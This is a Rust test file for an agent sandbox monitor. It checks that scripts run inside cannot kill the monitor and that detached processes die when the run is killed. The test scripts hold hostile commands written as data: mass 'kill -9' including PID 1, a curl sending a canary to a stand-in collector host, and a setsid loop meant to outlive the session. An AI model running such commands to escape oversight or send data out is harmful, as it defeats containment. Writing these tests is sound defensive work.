//! Without the monitor there is no agent: it cannot be killed from inside, and killed from outside it takes all with it.

use std::time::Duration;

use kairos_e2e::place::canary;
use kairos_e2e::process::{processes_with, signal_process, until};
use kairos_e2e::{Outcome, Run, Who};

use crate::ground::{Ground, somebody};

#[test]
fn from_inside() {
    let ground = Ground::new();
    let who = somebody();
    // Only in a process namespace of its own: should the boundary fail, this must not end the developer's session.
    let host = std::fs::read_link("/proc/self/ns/pid").unwrap();
    let script = format!(
        "sleep 1; [ \"$(readlink /proc/self/ns/pid)\" != '{}' ] || {{ echo 'the namespace of the host'; exit 1; }}; \
         for n in $(seq 2 400); do [ $n != $$ ] && kill -9 $n; done 2>/dev/null; kill -9 1; kill -TERM 1; \
         for p in $(cat host-pids); do kill -9 $p; done; sleep 0.5; echo still here; echo done > after.txt",
        host.display()
    );
    let run = Run::shell(&ground.workspace, &script).who(who);
    ground.workspace.write("host-pids", "");
    let started = run.start();
    std::fs::write(
        ground.workspace.path().join("host-pids"),
        started.id().to_string(),
    )
    .unwrap();
    let outcome = Outcome::of(started.finish(Duration::from_secs(60)));
    assert!(outcome.stdout.contains("still here"), "{outcome}");
    assert!(
        !outcome.summary.is_null(),
        "the monitor did not live to tell\n{outcome}"
    );
    assert_eq!(
        ground.workspace.read("after.txt").as_deref(),
        Some("done\n"),
        "{outcome}"
    );
}

#[test]
fn from_outside_the_agent_dies_with_it_and_nothing_is_committed() {
    for who in [Who::Me, Who::Ordinary] {
        let ground = Ground::new();
        let word = canary();
        ground.workspace.write("file.txt", "before\n");
        let script = format!(
            "echo after > file.txt; curl -sS -d {word} http://collect.example.test/; \
             setsid sh -c ': {word}; while :; do sleep 0.1; done' & \
             : {word}; while :; do sleep 0.1; done"
        );
        let mut run = Run::shell(&ground.workspace, &script)
            .within(&ground.world)
            .who(who)
            .start();
        let started = until(Duration::from_secs(20), || processes_with(&word).len() > 2);
        std::thread::sleep(Duration::from_millis(1000));
        run.kill();
        let ended = until(Duration::from_secs(5), || processes_with(&word).is_empty());
        let left = processes_with(&word);
        for id in &left {
            signal_process(&id.to_string(), "KILL");
        }
        assert!(started, "the agent did not start: {:?}", run.so_far());
        assert!(ended, "these outlive the monitor: {left:?}");
        assert_eq!(
            ground.workspace.read("file.txt").as_deref(),
            Some("before\n")
        );
        assert!(!ground.world.witness.has_seen(&word));
    }
}
